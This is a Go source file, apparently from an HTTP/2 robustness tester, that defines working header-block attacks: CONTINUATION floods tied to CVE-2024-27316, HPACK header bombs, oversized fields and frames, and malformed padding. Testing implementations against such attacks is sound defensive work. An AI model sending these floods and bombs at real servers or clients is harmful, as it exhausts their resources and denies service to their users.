// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"strings"

	"golang.org/x/net/http2"
)

// blocks are header blocks that are too long, too many, or never whole.
var blocks = []Attack{
	// CVE-2024-27316: a block that never ends.
	{Name: "continuation-flood", By: either, Do: func(p *Peer) {
		p.begin(p.Block("x-a", "b"))
		for p.More() {
			p.Frame(http2.FrameContinuation, 0, p.last, []byte{0x82}) // :method GET
		}
	}},
	{Name: "continuation-flood-of-nothing", By: either, Do: func(p *Peer) {
		p.begin(nil)
		for p.More() {
			p.Frame(http2.FrameContinuation, 0, p.last, nil)
		}
	}},
	{Name: "continuation-flood-of-much", By: either, Do: func(p *Peer) {
		p.begin(nil)
		piece := make([]byte, 16<<10)
		for p.More() {
			p.Frame(http2.FrameContinuation, 0, p.last, piece)
		}
	}},
	// A dozen bytes for a request whose header list is the table's largest entry, a few thousand times.
	{Name: "header-bomb", By: either, Do: func(p *Peer) { p.bomb(4000) }},
	// The same, just above any reasonable limit.
	{Name: "header-list-too-large", By: either, Do: func(p *Peer) { p.bomb(20) }},
	{Name: "header-field-too-large", By: either, Do: func(p *Peer) {
		for p.More() {
			p.Headers(p.spoiled(), 0, p.Block("x-large", strings.Repeat("a", 17<<10)))
		}
	}},
	{Name: "header-frame-too-large", By: either, Do: func(p *Peer) {
		block := make([]byte, 40<<10)
		for p.More() {
			p.Headers(p.spoiled(), 0, block)
		}
	}},
	{Name: "empty-headers", By: Client, Do: func(p *Peer) {
		for p.More() {
			p.Headers(p.Next(), 0, nil)
		}
	}},
	{Name: "trailers-without-end", By: either, Do: each(func(p *Peer, id uint32) {
		p.Headers(id, 0, p.Block("a", "b"))
		p.Headers(id, 0, p.Block("a", "b"))
	})},
	{Name: "padding-longer-than-headers", By: either, Do: func(p *Peer) {
		for p.More() {
			p.Headers(p.spoiled(), http2.FlagHeadersPadded, []byte{200, 0x82})
		}
	}},
	// Whole and legal, but as large as is read at all: what a connection keeps of it afterwards is kept for its life.
	{Name: "largest-block", By: Client, Polite: true, Do: func(p *Peer) {
		p.Frame(http2.FrameHeaders, 0, p.Next(), sizeUpdates(30<<10))
		p.Frame(http2.FrameContinuation, 0, p.last, nil)
		p.Frame(http2.FrameContinuation, http2.FlagContinuationEndHeaders, p.last, literal(":method", "CONNECT", ":authority", Echo))
		p.Asked()
	}},
	{Name: "half-a-block", By: either, Do: func(p *Peer) { p.begin(p.Block("x-a", "b")) }},
	{Name: "request-in-a-block", By: either, Do: func(p *Peer) {
		for p.More() {
			p.begin(p.Block("x-a", "b"))
			p.Ping(0, "")
		}
	}},
}

// spoiled gives a stream for HEADERS that are wrong: a client's next, or the one that a server is asked for.
func (p *Peer) spoiled() uint32 {
	if p.role == Client {
		return p.Next()
	}
	return p.Asked()
}

// begin sends HEADERS that do not end their block.
func (p *Peer) begin(block []byte) {
	p.last = p.spoiled()
	p.Frame(http2.FrameHeaders, 0, p.last, block)
}

// bomb sends header lists of n times 4 KB, in as many bytes as that are thousands.
func (p *Peer) bomb(n int) {
	p.Headers(p.spoiled(), http2.FlagHeadersEndStream, p.Block("x-bomb", strings.Repeat("a", 4000)))
	block := make([]byte, n)
	for i := range block {
		block[i] = 0x80 | 62 // the newest entry of the dynamic table (RFC 7541 §2.3.3)
	}
	for p.More() {
		p.Headers(p.spoiled(), http2.FlagHeadersEndStream, block)
	}
}

// fields gives n fields whose values have size bytes and differ, so that each displaces others from the table.
func fields(n, size int) []string {
	var list []string
	for i := range n {
		list = append(list, "x-field", strings.Repeat(string(rune('a'+i%26)), size))
	}
	return list
}
